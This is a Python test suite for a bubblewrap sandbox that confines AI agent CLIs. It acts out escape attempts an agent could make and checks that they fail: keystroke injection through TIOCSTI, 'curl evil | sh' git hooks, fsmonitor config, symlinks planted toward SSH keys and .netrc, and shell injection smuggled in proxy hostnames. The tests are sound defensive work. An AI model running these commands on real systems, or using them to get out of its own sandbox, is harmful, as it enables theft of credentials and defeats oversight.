"""Attacks on the host side, each made the way the agent would make it through the real
`bw-claude` (real bwrap, a fake CLI, a temporary HOME), each checked on the HOST: keystroke
injection into the shared terminal, nested user namespaces, inherited descriptors, hostile
input; files in the project that run code later outside the sandbox; links planted in one
session and used by the next; sessions of one project overlapping and ending in every order,
some with SIGKILL; files the wrapper and the proxy write on the host; the wrapper's own
places.  Where it shows something, an attack is first shown to work without the defence
(plain bwrap, or --allow-config-writes)."""

import contextlib
import errno
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
import unittest

import bw_lib
from tests.sandbox_harness import (BW_CLAUDE, BW_GEMINI, FAKE_CLI, SessionCase, install_copy,
                                   missing, one_line, processes_mentioning, read_text,
                                   require_tools, run_in_pty, wait_for, write_file)

SECRET = "-----BEGIN FAKE ED25519 KEY----- 7f3c9e"
BASHRC = "# the user's bashrc\n"

TIOCSTI_ATTACK = """
import errno, fcntl, sys, termios
for name, request in (("TIOCSTI", termios.TIOCSTI), ("TIOCSTI-HIGH", termios.TIOCSTI | 1 << 32),
                      ("TIOCLINUX", 0x541C)):
    try:
        fcntl.ioctl(0, request, b"\\x0c" if name != "TIOCLINUX" else b"\\x06")
        print(name, "ok")
    except OSError as error:
        print(name, errno.errorcode[error.errno])
"""


def reachable_by_others(path):
    """Whether a user with no rights of its own can run `path`: every directory on the way
    searchable by others, the file executable by them."""
    real = os.path.realpath(path)
    if not os.path.isfile(real) or not os.stat(real).st_mode & stat.S_IXOTH:
        return False
    parent = os.path.dirname(real)
    while True:
        if not os.stat(parent).st_mode & stat.S_IXOTH:
            return False
        if parent == "/":
            return True
        parent = os.path.dirname(parent)


def connect_script(host):
    """Inside the sandbox: ask the proxy (through the bridge, SOCKS5 with a domain name, which
    may hold any byte) for `host`, as any client could."""
    assert "'" not in host and len(host) < 256
    return ("p=${HTTP_PROXY##*:}; p=${p%/}; exec 3<>/dev/tcp/127.0.0.1/$p; "
            "printf '\\005\\001\\000' >&3; head -c 2 <&3 >/dev/null; "
            f"printf '\\005\\001\\000\\003\\{len(host):03o}%s\\001\\273' '{host}' >&3; "
            "timeout 5 cat <&3 >/dev/null; true")


class HardeningTest(SessionCase):
    """The terminal, namespaces, descriptors and odd input."""

    PREFIX = "bw-hardening-"

    def in_pty(self, argv):
        """Run argv with a pseudo-terminal as its controlling terminal; its output and status."""
        output, status = run_in_pty(argv, self.project, self.env)
        return output.decode(errors="replace"), status

    def test_keystroke_injection_is_refused(self):
        python = "/usr/bin/python3"
        if not os.path.exists(python):
            missing("/usr/bin/python3 is needed inside the sandbox for this attack")
        legacy = "/proc/sys/dev/tty/legacy_tiocsti"
        with contextlib.suppress(OSError), open(legacy) as f:
            legacy_on = f.read().strip() == "1"
        if not os.path.exists(legacy) or legacy_on:
            plain, _ = self.in_pty([shutil.which("bwrap"), "--ro-bind", "/", "/", "--dev", "/dev",
                                    "--proc", "/proc", python, "-c", TIOCSTI_ATTACK])
            self.assertIn("TIOCSTI ok", plain)
        output, code = self.in_pty([sys.executable, BW_CLAUDE, "--", f"{python} -c '{TIOCSTI_ATTACK}'"])
        self.assertEqual(code, 0, output)
        for name in ("TIOCSTI", "TIOCSTI-HIGH", "TIOCLINUX"):
            self.assertIn(f"{name} {errno.errorcode[errno.EPERM]}", output)
        self.assertNotIn(" ok", output)

    def test_no_nested_user_namespaces(self):
        require_tools("unshare")
        if not bw_lib.bwrap_supports(shutil.which("bwrap"), "--disable-userns"):
            missing("this bwrap lacks --disable-userns (bubblewrap < 0.8)")
        plain = subprocess.run([shutil.which("bwrap"), "--ro-bind", "/", "/", "--unshare-user",
                                "--dev", "/dev", "--proc", "/proc", "unshare", "-U", "true"],
                               capture_output=True, text=True)
        self.assertEqual(plain.returncode, 0, plain.stderr)
        result = self.bw(script="unshare -U true; echo unshare=$?")
        self.assertIn("unshare=1", result.stdout, result.stderr)

    def test_only_the_standard_descriptors_reach_the_sandbox(self):
        require_tools("socat")
        read_fd, write_fd = os.pipe()
        self.addCleanup(os.close, read_fd)
        self.addCleanup(os.close, write_fd)
        for argv in ((), ("--filter-network", "--unshare-net")):
            with self.subTest(argv=argv):
                result = self.bw(*argv, script="ls /proc/self/fd", pass_fds=(read_fd, write_fd))
                self.assertEqual(result.returncode, 0, result.stderr)
                self.assertEqual(result.stdout.split(), ["0", "1", "2", "3"])

    def test_verbose_says_what_is_on(self):
        result = self.bw("-v", "--dry-run", script="true")
        self.assertIn("keystroke injection (ioctl TIOCSTI, TIOCLINUX): blocked", result.stderr)
        self.assertIn("nested user namespaces: ", result.stderr)
        self.assertIn("--seccomp FD", result.stdout)

    def test_hostile_json_and_modes_in_the_session_do_not_break_clean_up(self):
        # Nested past Python's recursion limit; and a directory the wrapper may not empty.
        with open(os.path.join(self.project, "deep.json"), "w") as f:
            f.write("[" * 100000)
        result = self.bw(script=("cp deep.json ~/.claude/settings.json && cp deep.json "
                                 "~/.claude.json && rm deep.json && "
                                 "mkdir -p ~/d/e && touch ~/d/e/f && chmod 500 ~/d/e && echo done"))
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("done", result.stdout)
        self.assertNotIn("Traceback", result.stderr)
        self.assertEqual(os.listdir(self.runtime), [])
        self.assertEqual(sorted(os.listdir(self.project)), [".fake-cli-args"])
        self.assertFalse(os.path.lexists(os.path.join(self.home, ".claude")))
        self.assertFalse(os.path.exists(os.path.join(self.home, ".claude.json")))

    def test_home_must_be_absolute_and_relative_xdg_config_is_ignored(self):
        # With HOME relative, ~/.claude/local/claude would be the project's, run on the host.
        launcher = os.path.join(self.project, ".claude", "local", "claude")
        os.makedirs(os.path.dirname(launcher))
        with open(launcher, "w") as f:
            f.write(f"#!/bin/sh\ntouch {self.root}/ran-on-host\necho 1.0\n")
        os.chmod(launcher, 0o755)
        no_cli = {**self.env, "PATH": "/usr/bin:/bin"}
        for env in ({**no_cli, "HOME": "."}, {k: v for k, v in no_cli.items() if k != "HOME"}):
            for argv in (["--doctor"], ["--", "true"]):
                with self.subTest(home=env.get("HOME"), argv=argv):
                    result = self.bw(*argv, env=env)
                    self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
                    self.assertTrue(result.stderr.startswith("bw-claude: error: HOME is "),
                                    result.stderr)
                    self.assertEqual(len(result.stderr.splitlines()), 1, result.stderr)
                    self.assertFalse(os.path.exists(os.path.join(self.root, "ran-on-host")))
        # A relative XDG_CONFIG_HOME is ignored (XDG spec): the project's options are not read.
        options = os.path.join(self.project, "cfg", "bw-claude", "options")
        os.makedirs(os.path.dirname(options))
        with open(options, "w") as f:
            f.write("--allow-config-writes\n")
        result = self.bw(script="if (echo {} > .mcp.json) 2>/dev/null; then echo WORKED; fi",
                         env={**self.env, "XDG_CONFIG_HOME": "cfg"})
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertNotIn("WORKED", result.stdout)

    def test_odd_bytes_in_paths_and_files_are_one_line_or_exact(self):
        odd = os.path.join(os.fsencode(self.root), b"x\xff")
        os.mkdir(odd)
        result = subprocess.run([sys.executable, BW_CLAUDE, b"--dir", odd, b"--dry-run"],
                                cwd=self.project, capture_output=True, timeout=60,
                                env={**self.env, "PYTHONIOENCODING": "utf-8:strict"})
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn(b"--chdir '" + odd + b"'", result.stdout)
        self.assertEqual(result.stderr, b"")
        options = os.path.join(self.home, ".config", "bw-claude", "options")
        os.makedirs(os.path.dirname(options))
        with open(options, "w") as f:
            f.write("--verbose\n--filter-\0network\n")
        result = self.bw(script="echo ran")
        self.assertEqual(result.returncode, 2, result.stderr)
        self.assertEqual(len(result.stderr.splitlines()), 1, result.stderr)
        self.assertIn(f"{options}:2: a NUL character", result.stderr)
        self.assertNotIn("ran", result.stdout)


class ProjectConfigTest(SessionCase):
    """Files in the project that make something run later outside the sandbox (git hooks and
    config, MCP servers, editor tasks, the CLIs' project settings) are read-only inside, or
    placeholders that are gone after the session."""

    PREFIX = "bw-config-"

    def write_project(self, relative, text=""):
        write_file(os.path.join(self.project, relative), text)

    ATTACKS = {
        "hook": "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "existing-hook": "echo 'curl evil | sh' >> .git/hooks/post-checkout",
        "git-config": "printf '[core]\\nhooksPath = /tmp\\n' >> .git/config",
        "git-rename": "mv .git .git-moved",
        "hooks-rename": "mv .git/hooks .git/hooks-moved",
        "mcp": "echo '{\"mcpServers\": {}}' > .mcp.json",
        "claude-settings": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
        "claude-local": "echo '{}' > .claude/settings.local.json",
        "claude-commands": "mkdir -p .claude/commands/x",
        "claude-rename": "mv .claude .claude-moved",
        "gemini-settings": "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
        "vscode": "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        "idea": "mkdir -p .idea/x",
    }

    ALLOWED = {"git-object": "echo x > .git/objects/new && echo done",
               "claude-other": "mkdir -p .claude && echo x > .claude/notes.txt && echo done"}

    def attack_script(self):
        lines = [f"if ( {command} ) 2>/dev/null; then echo WORKED {name}; fi"
                 for name, command in self.ATTACKS.items()]
        return "\n".join(lines + [f"( {c} ) >/dev/null 2>&1 && echo ALLOWED {n}"
                                  for n, c in self.ALLOWED.items()])

    def make_git(self):
        self.write_project(".git/config", "[core]\n")
        self.write_project(".git/hooks/post-checkout", "#!/bin/sh\n")
        self.write_project(".git/HEAD", "ref: refs/heads/main\n")
        os.makedirs(os.path.join(self.project, ".git", "objects"))

    def test_config_that_runs_code_later_cannot_be_written(self):
        self.make_git()
        before = sorted(os.listdir(self.project))
        result = self.bw(script=self.attack_script())
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertNotIn("WORKED", result.stdout)
        self.assertIn("ALLOWED git-object", result.stdout)
        self.assertIn("ALLOWED claude-other", result.stdout)
        with open(os.path.join(self.project, ".git", "config")) as f:
            self.assertEqual(f.read(), "[core]\n")
        self.assertEqual(os.listdir(os.path.join(self.project, ".git", "hooks")), ["post-checkout"])
        self.assertEqual(sorted(os.listdir(self.project)),
                         sorted(before + [".claude", ".fake-cli-args"]))
        self.assertEqual(os.listdir(os.path.join(self.project, ".claude")), ["notes.txt"])
        self.assertFalse(os.path.lexists(os.path.join(self.home, ".claude")))
        self.assertEqual(os.listdir(self.runtime), [])

    def test_allow_config_writes_turns_protection_off(self):
        self.make_git()
        result = self.bw("--allow-config-writes", script=self.attack_script())
        self.assertEqual(result.returncode, 0, result.stderr)
        for name in ("hook", "git-config", "mcp", "claude-settings"):
            self.assertIn(f"WORKED {name}", result.stdout)
        self.assertTrue(os.path.exists(os.path.join(self.project, ".mcp.json")))

    def test_the_other_clis_missing_config_directory_cannot_be_filled(self):
        # A Claude session has nothing to write in .gemini (and a Gemini one in .claude):
        # missing, it is held whole, so not even an instructions file can be planted there
        # for the other CLI, run later on the host.
        for tool, other in ((BW_CLAUDE, ".gemini"), (BW_GEMINI, ".claude")):
            with self.subTest(tool=os.path.basename(tool)):
                result = self.shell(f"mkdir -p {other}/x; echo evil > {other}/NOTES.md; "
                                    f"ls -A {other}; echo ran", tool=tool)
                self.assertIn("ran", result.stdout, result.stderr)
                self.assertFalse(os.path.lexists(os.path.join(self.project, other)))

    def test_two_signals_at_once_still_stop_the_sandbox_before_the_clean_up(self):
        # A session scope ends with SIGTERM then SIGHUP: the second must not cut short the
        # clean-up the first began, or the placeholders go while the agent still runs.
        planted = os.path.join(self.project, ".claude", "settings.local.json")
        started = os.path.join(self.project, "started")
        script = (": > started; while :; do mkdir -p .claude 2>/dev/null; "
                  "echo '{\"hooks\": {}}' > .claude/settings.local.json 2>/dev/null "
                  "&& break; done; sleep 30")
        for signals in ((signal.SIGTERM, signal.SIGHUP), (signal.SIGHUP, signal.SIGTERM)):
            session = self.popen("--", script)
            self.assertTrue(wait_for(lambda: os.path.exists(started), 30))
            for sig in signals:
                session.send_signal(sig)
            session.communicate(timeout=60)
            os.remove(started)
            time.sleep(0.5)                 # what a sandbox left running would write by now
            self.assertFalse(os.path.lexists(planted), signals)
            self.assertEqual(processes_mentioning(self.project), [])

    def test_placeholders_are_gone_after_the_session(self):
        result = self.bw(script="ls -A; ls -A .claude")
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn(".mcp.json", result.stdout.split())
        self.assertIn("settings.json", result.stdout.split())
        self.assertEqual(os.listdir(self.project), [".fake-cli-args"])
        with open(os.path.join(self.project, ".fake-cli-args")) as f:
            self.assertTrue(f.read())
        self.assertFalse(os.path.lexists(os.path.join(self.home, ".claude")))

    def without_privileges(self):
        """A prefix that runs the wrapper without root's power to write anywhere (as an
        ordinary user runs it); nothing as an ordinary user."""
        if os.geteuid() != 0:
            return []
        setpriv = shutil.which("setpriv")
        if not setpriv:
            missing("setpriv (util-linux) is needed to drop root's capabilities")
        return [setpriv, "--bounding-set=-all", "--inh-caps=-all"]

    def test_a_placeholder_that_cannot_be_made_stops_the_session(self):
        # A repository of ours we cannot write to right now.  The sandbox is its owner
        # too, so it could chmod it and create .mcp.json.
        self.make_git()
        for path in (os.path.join(self.project, ".git"), self.project):
            os.chmod(path, 0o555)
            self.addCleanup(os.chmod, path, 0o755)
        result = self.bw(script="chmod u+w . .git && echo {} > .mcp.json; echo ran",
                         prefix=self.without_privileges())
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assertNotIn("ran", result.stdout)
        self.assertFalse(os.path.exists(os.path.join(self.project, ".mcp.json")))
        line = result.stderr.strip()
        self.assertNotIn("\n", line)
        self.assertTrue(line.startswith(f"bw-claude: error: the project {self.project} is not "
                                        "writable"), line)
        self.assertIn("--allow-config-writes", line)
        self.assertEqual(os.listdir(self.runtime), [])
        # The way out the message names.
        result = self.bw("--allow-config-writes", script="echo ran")
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("ran", result.stdout)

    def test_a_project_nobody_here_can_write_to_still_runs(self):
        # Someone else's read-only directory: the sandbox cannot create anything there
        # either, so no protection is lost and the session runs.  As root, the session runs
        # as nobody (its directories handed over) in a read-only directory of root's.
        project = "/usr/share/doc" if os.path.isdir("/usr/share/doc") else "/usr/share"
        as_user, python, entry = [], sys.executable, BW_CLAUDE
        if os.geteuid() == 0:
            setpriv = shutil.which("setpriv")
            if not setpriv:
                missing("setpriv (util-linux) is needed to run as another user")
            # The clone may sit in a directory nobody can enter (/root, a mode-700 mktemp):
            # nobody runs a copy of the scripts, from its own directory, with a python3 it
            # can reach.
            entry = install_copy(os.path.join(self.root, "scripts"))
            python = next((p for p in (sys.executable, "/usr/bin/python3")
                           if reachable_by_others(p)), None)
            if python is None:
                missing(f"no python3 that {os.path.basename(sys.executable)}'s other users "
                        "can run: apt-get install python3")
            for directory, _, files in os.walk(self.root):
                for path in (directory, *(os.path.join(directory, f) for f in files)):
                    os.lchown(path, 65534, 65534)
            as_user = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
        result = subprocess.run([*as_user, python, entry, "--dir", project, "--",
                                 "echo ran"], cwd=project, env=self.env, capture_output=True,
                                text=True, timeout=60)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("ran", result.stdout)

    def test_git_protection_covers_commondir_modules_worktrees_and_git_files(self):
        require_tools("git")
        git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=m"]
        subprocess.run([*git, "init", "-q", self.project], check=True)
        # A linked worktree or a submodule: .git is a file naming the git directory.
        linked = os.path.join(self.root, "linked")
        os.makedirs(linked)
        with open(os.path.join(linked, ".git"), "w") as f:
            f.write("gitdir: /nonexistent\n")
        # Repositories below the project: a submodule's checkout (rewriting its .git file
        # makes the host's `git status` in the project run the fsmonitor of a crafted
        # git directory) and a vendored repository.
        self.write_project("sub/.git", "gitdir: ../.git/modules/sub\n")
        subprocess.run([*git, "init", "-q", os.path.join(self.project, "vendor", "lib")],
                       check=True)
        # An --allow-rw directory holding a repository.
        other = os.path.join(self.root, "other")
        subprocess.run([*git, "init", "-q", other], check=True)
        with open(os.path.join(other, ".git", "config")) as f:
            other_config = f.read()
        attacks = {
            "commondir": "mkdir -p /tmp/c/hooks && printf '/tmp/c\\n' > .git/commondir",
            "config-worktree": "echo '[core]' > .git/config.worktree",
            "modules": "mkdir -p .git/modules/sub && echo '[core]' > .git/modules/sub/config",
            "worktrees": "mkdir -p .git/worktrees/w && echo x > .git/worktrees/w/commondir",
            "git-file": f"echo 'gitdir: /tmp/c' > {linked}/.git",
            "git-file-rm": f"rm -f {linked}/.git",
            "rw-config": f"echo '[core] fsmonitor = touch /tmp/pwned' >> {other}/.git/config",
            "rw-hook": f"echo 'curl evil | sh' > {other}/.git/hooks/pre-commit",
            "rw-mcp": f"echo '{{}}' > {other}/.mcp.json",
            "submodule-file": "echo 'gitdir: ../evil' > sub/.git",
            "vendored-config": "echo '[core] fsmonitor = x' >> vendor/lib/.git/config",
            "vendored-hook": "echo x > vendor/lib/.git/hooks/post-checkout",
        }
        script = "\n".join(f"if ( {c} ) 2>/dev/null; then echo WORKED {n}; fi"
                           for n, c in attacks.items())
        script += ("\ngit status --short >/dev/null && git -c user.name=t -c user.email=t@t "
                   "commit -q --allow-empty -m inside && echo GIT-WORKS")
        result = self.bw("--allow-rw", linked, "--allow-rw", other, script=script)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertNotIn("WORKED", result.stdout)
        self.assertIn("GIT-WORKS", result.stdout)
        for name in ("commondir", "config.worktree", "modules", "worktrees"):
            self.assertFalse(os.path.lexists(os.path.join(self.project, ".git", name)), name)
        with open(os.path.join(linked, ".git")) as f:
            self.assertEqual(f.read(), "gitdir: /nonexistent\n")
        with open(os.path.join(other, ".git", "config")) as f:
            self.assertEqual(f.read(), other_config)
        self.assertEqual(sorted(os.listdir(other)), [".git"])
        with open(os.path.join(self.project, "sub", ".git")) as f:
            self.assertEqual(f.read(), "gitdir: ../.git/modules/sub\n")
        log = subprocess.run(["git", "-C", self.project, "log", "--format=%s"],
                             capture_output=True, text=True)
        self.assertEqual(log.stdout, "inside\n", log.stderr)


class ContainmentCase(SessionCase):
    """A home holding a secret key, a .netrc and a .bashrc, which no session may read or
    change."""

    PREFIX = "bw-containment-"

    def setUp(self):
        super().setUp()
        for relative, text, mode in ((".ssh/id_ed25519", SECRET + "\n", 0o600),
                                     (".netrc", f"machine x password {SECRET}\n", 0o600),
                                     (".bashrc", BASHRC, 0o644)):
            self.write_home(relative, text, mode)
        self.home_before = set(os.listdir(self.home))

    def assert_home_untouched(self, result):
        self.assertNotIn(SECRET, result.stdout + result.stderr)
        self.assertEqual(read_text(os.path.join(self.home, ".bashrc")), BASHRC)
        # ~/.cache holds only the sessions' base, empty once they ended.
        self.assertEqual(set(os.listdir(self.home)) - {".claude", ".cache"},
                         self.home_before - {".claude", ".cache"})
        self.assertEqual(os.listdir(os.path.join(self.home, ".cache", "bw-claude")), [])
        self.assertEqual(os.listdir(os.path.join(self.home, ".ssh")), ["id_ed25519"])

    def assert_refused_naming(self, result, path):
        """The session did not start: one line naming the link and how to remove it."""
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assert_refused(result, path, "symbolic link", "rm ", ran="SESSION-RAN")


class PlantedLinkTest(ContainmentCase):
    """A link planted in session 1 is never followed by session 2's mounts."""

    ATTACK = ("echo SESSION-RAN; cat {at}/.ssh/id_ed25519 {at}/.netrc 2>/dev/null; "
              "echo 'echo PWNED' >> {at}/.bashrc 2>/dev/null; "
              "mkdir -p {at}/.config/autostart 2>/dev/null; true")

    def test_a_nested_repository_linked_to_the_home_is_refused(self):
        # sub/.git -> the home: the next session took sub for a repository and bound its
        # .git, the whole home, read-write.  (A guarded session's own .git link is set
        # aside at its end, test_git_guard; one made without the guard stays.)
        self.check(self.shell("mkdir sub && ln -s ../../home sub/.git", "--allow-config-writes"))
        result = self.shell(self.ATTACK.format(at="sub/.git"))
        self.assert_home_untouched(result)
        self.assertFalse(os.path.exists(os.path.join(self.home, ".config")))
        self.assert_refused_naming(result, os.path.join(self.project, "sub", ".git"))
        # The way out the message gives works.
        os.unlink(os.path.join(self.project, "sub", ".git"))
        self.check(self.shell("echo SESSION-RAN"))

    def test_a_nested_repository_linked_outside_is_refused(self):
        # Any host directory (/tmp, say) would be bound read-write.
        outside = os.path.join(self.root, "outside")
        os.mkdir(outside)
        self.check(self.shell("mkdir -p a/b && ln -s ../../../outside a/b/.git",
                              "--allow-config-writes"))
        result = self.shell("echo SESSION-RAN; echo x > a/b/.git/planted")
        self.assertEqual(os.listdir(outside), [])
        self.assert_refused_naming(result, os.path.join(self.project, "a", "b", ".git"))

    def test_a_protected_settings_file_linked_to_a_secret_is_refused(self):
        # .claude/settings*.json are protected by a glob: a link matching it was bound
        # read-only by following it, showing the secret it names.
        self.check(self.shell("ln -s ../../home/.netrc .claude/settings.evil.json"))
        result = self.shell("echo SESSION-RAN; cat .claude/settings.evil.json")
        self.assert_home_untouched(result)
        self.assert_refused_naming(result, os.path.join(self.project, ".claude",
                                                        "settings.evil.json"))

    def test_a_state_script_linked_to_a_secret_shows_nothing(self):
        # ~/.claude/statusline.sh -> ../.netrc: the home glob bound the secret.  (The CLI's
        # state is reworked elsewhere; what must hold is that the secret is never shown.)
        self.check(self.shell("ln -s ../.netrc ~/.claude/statusline.sh; ln -s ../.. ~/.claude/a.sh"))
        result = self.shell("echo SESSION-RAN; cat ~/.claude/statusline.sh ~/.claude/a.sh/*/.netrc "
                            "~/.claude/a.sh/*/.ssh/id_ed25519 2>/dev/null; true")
        self.assert_home_untouched(result)

    def test_an_allow_rw_directory_through_a_planted_link_is_refused(self):
        self.write_home("docs/private.txt", SECRET + "\n")
        self.home_before = set(os.listdir(self.home))
        self.check(self.shell("ln -s ../home/docs keys"))
        result = self.bw("--shell", "--allow-rw", os.path.join(self.project, "keys"), "--",
                         "-c", "echo SESSION-RAN; cat keys/private.txt")
        self.assert_home_untouched(result)
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assertNotIn("SESSION-RAN", result.stdout)

    def test_a_cli_linked_out_of_the_project_shows_nothing_more(self):
        # The CLI found on PATH inside the project (node_modules/.bin on PATH): its links,
        # which the sandbox can rewrite, decided what the next session showed read-only.
        self.write_home("tools/run", FAKE_CLI, 0o755)
        self.write_home("tools/" + ".netrc-copy", SECRET + "\n", 0o600)
        os.unlink(os.path.join(self.bin, "claude"))
        bin_dir = os.path.join(self.project, "node_modules", ".bin")
        os.makedirs(bin_dir)
        os.symlink("../../../home/tools/run", os.path.join(bin_dir, "claude"))
        env = dict(self.env, PATH=f"{bin_dir}:/usr/bin:/bin")
        result = self.bw("--", "cat ~/tools/.netrc-copy", env=env)
        self.assertNotIn(SECRET, result.stdout + result.stderr)
        self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
        self.assertIn("symbolic link", result.stderr)

    def test_dry_run_shows_descriptor_binds(self):
        os.mkdir(os.path.join(self.project, ".git"))
        result = self.check(self.bw("--dry-run", "--shell"))
        self.assertIn(f"--ro-bind-fd FD {self.project}/.git/config", result.stdout)
        self.assertIn(f"--bind-fd FD {self.project}/.git", result.stdout)
        self.assertEqual(sorted(os.listdir(self.project)), [".git"])


class ConcurrentSessionsTest(ContainmentCase):
    """Sessions of one project keep their protection whatever the others do."""

    # Each session waits for .go-NAME, then tries to write what runs code later (what
    # worked once another session had ended), and writes the outcome to .result-NAME;
    # .end-NAME ends it.
    SESSION = (": > .started-{n}; i=0; "
               "while [ ! -e .go-{n} ] && [ ! -e .end-{n} ] && [ $i -lt 1200 ]; do "
               "sleep 0.05; i=$((i+1)); done; "
               "if [ -e .go-{n} ]; then {{ "
               "echo '{{\"hooks\": 1}}' > .claude/settings.json && echo WROTE-settings; "
               "echo '{{\"mcpServers\": 1}}' > .mcp.json && echo WROTE-mcp; "
               "echo /tmp > .git/commondir && echo WROTE-commondir; "
               "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config && echo WROTE-config; "
               "echo tried; }} > .result-{n} 2>/dev/null; fi; "
               "while [ ! -e .end-{n} ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done")

    def setUp(self):
        super().setUp()
        if not shutil.which("git"):
            missing("git is not installed")
        subprocess.run(["git", "init", "-q", self.project], check=True)
        self.git_config = read_text(os.path.join(self.project, ".git", "config"))
        self.sessions = {}

    def forget_markers(self):
        for name in os.listdir(self.project):
            if name.startswith((".started-", ".go-", ".end-", ".result-")):
                os.unlink(os.path.join(self.project, name))

    def start(self, name):
        process = self.popen("--shell", "--", "-c", self.SESSION.format(n=name),
                             start_new_session=True)
        self.sessions[name] = process
        self.assertTrue(wait_for(lambda: os.path.exists(self.marker("started", name)),
                                 seconds=30), self.output(name))

    def marker(self, kind, name):
        return os.path.join(self.project, f".{kind}-{name}")

    def output(self, name):
        process = self.sessions[name]
        return "" if process.poll() is None else "".join(process.communicate(timeout=30))

    def end(self, name, how):
        process = self.sessions[name]
        if how == "kill":
            process.kill()
        else:
            open(self.marker("end", name), "w").close()
        process.communicate(timeout=30)
        self.assertEqual(process.returncode, -signal.SIGKILL if how == "kill" else 0)

    def attack_from(self, name):
        """The survivor tries to write what runs code later; nothing may change on the host."""
        open(self.marker("go", name), "w").close()
        result = self.marker("result", name)
        self.assertTrue(wait_for(lambda: "tried" in (read_text(result) or ""), seconds=30))
        self.assertNotIn("WROTE", read_text(result))
        self.assert_project_unchanged()

    def assert_project_unchanged(self):
        for relative in (".claude/settings.json", ".mcp.json", ".git/commondir"):
            self.assertIn(read_text(os.path.join(self.project, relative)),
                          (None, "{}\n", ".\n", ""), relative)
        self.assertEqual(read_text(os.path.join(self.project, ".git", "config")), self.git_config)

    def assert_no_placeholders_left(self):
        """After the last session: no placeholder, no lock left on the host."""
        names = {n for n in os.listdir(self.project) if not n.startswith((".started-", ".go-",
                                                                            ".end-", ".result-"))}
        self.assertEqual(names, {".git"})
        self.assertFalse(os.path.exists(os.path.join(self.project, ".git", "commondir")))
        self.assertEqual(read_text(os.path.join(self.project, ".git", "config")), self.git_config)
        self.assertFalse([n for n in os.listdir(self.runtime) if n.startswith("bw-locks")])

    def test_two_sessions_ending_in_every_way(self):
        for how in ("normal", "kill"):
            with self.subTest(first_ends=how):
                self.forget_markers()
                self.start("a")
                self.start("b")
                self.end("a", how)
                # A session starting and ending meanwhile (the sweep after a SIGKILL).
                self.check(self.shell("true"))
                self.attack_from("b")
                self.end("b", "normal")
                self.assert_no_placeholders_left()

    def test_a_session_starting_while_another_ends_keeps_its_protection(self):
        # The end is timed to land before, during and after b's own start.
        for delay in (0, 0.05, 0.1, 0.15, 0.2, 0.3):
            with self.subTest(delay=delay):
                self.forget_markers()
                self.start("a")
                threading.Timer(delay, write_file, (self.marker("end", "a"), "")).start()
                self.start("b")
                self.sessions["a"].communicate(timeout=30)
                self.attack_from("b")
                self.end("b", "normal")
                self.assert_no_placeholders_left()

    def test_what_a_killed_session_held_goes_at_the_next_start_in_any_project(self):
        self.start("a")
        self.end("a", "kill")
        self.assertTrue(os.path.exists(os.path.join(self.project, ".mcp.json")))
        other = os.path.join(self.root, "other")
        os.mkdir(other)
        self.check(self.bw("--shell", "--dir", other, "--", "-c", "true"))
        self.assert_no_placeholders_left()
        self.assertEqual(os.listdir(other), [])

    def test_three_sessions_ending_in_every_order(self):
        orders = [(("a", "normal"), ("b", "normal"), "c"), (("c", "kill"), ("a", "normal"), "b"),
                  (("b", "normal"), ("c", "kill"), "a"), (("a", "kill"), ("b", "kill"), "c")]
        for first, second, survivor in orders:
            with self.subTest(first=first, second=second):
                self.forget_markers()
                for name in "abc":
                    self.start(name)
                self.end(*first)
                self.assert_project_unchanged()
                self.end(*second)
                self.attack_from(survivor)
                self.end(survivor, "kill" if first[1] == second[1] == "kill" else "normal")
                if first[1] == second[1] == "kill":
                    self.check(self.shell("true"))     # the next start cleans after SIGKILL
                self.assert_no_placeholders_left()


class HostWrittenFilesTest(ContainmentCase):
    """Files the wrapper and the proxy write on the host follow no planted link, and the
    log holds nothing a shell would run."""

    TOOLS = ("socat",)

    def test_a_proxy_log_the_sandbox_can_write_is_refused(self):
        # The summary and --learn read the log back: one in the project would say what the
        # agent wrote there (an allow rule learned for it), or be swapped for a link (to
        # ~/.bashrc, or a directory on its way) before the proxy, starting alongside the
        # sandbox, opens it.
        logs = os.path.join(self.project, "logs")
        os.mkdir(logs)
        os.symlink(os.path.join(self.home, ".bashrc"), os.path.join(self.project, "proxy.jsonl"))
        through = os.path.join(self.root, "to-project")      # a link of the user's own
        os.symlink(self.project, through)
        for log in (os.path.join(self.project, "proxy.jsonl"), os.path.join(logs, "p.jsonl"),
                    os.path.join(through, "q.jsonl")):
            result = self.shell("echo SESSION-RAN; rm -rf logs; ln -s ~ logs",
                                "--filter-network", "--unshare-net", "--proxy-log", log)
            self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
            self.assertNotIn("SESSION-RAN", result.stdout)
            self.assertIn("--proxy-log", result.stderr)
            self.assertEqual(read_text(os.path.join(self.home, ".bashrc")), BASHRC)
            self.assertFalse(os.path.lexists(os.path.join(self.home, "p.jsonl")))
            self.assertTrue(os.path.isdir(logs))

    def test_names_in_the_log_are_no_shell_code(self):
        log = os.path.join(self.root, "proxy.jsonl")
        marker = os.path.join(self.root, "ran")
        self.check(self.shell(connect_script(f"$(touch${{IFS}}{marker})"), "--filter-network", "--unshare-net", "--proxy-log", log))
        with open(log) as f:
            lines = f.read().splitlines()
        records = [json.loads(line) for line in lines]     # still valid JSON
        self.assertTrue(any("touch" in str(r.get("host")) for r in records), records)
        for line in lines:
            self.assertNotIn("$", line)
            self.assertNotIn("`", line)
        # What a planted link could make of it: the log read by a shell.
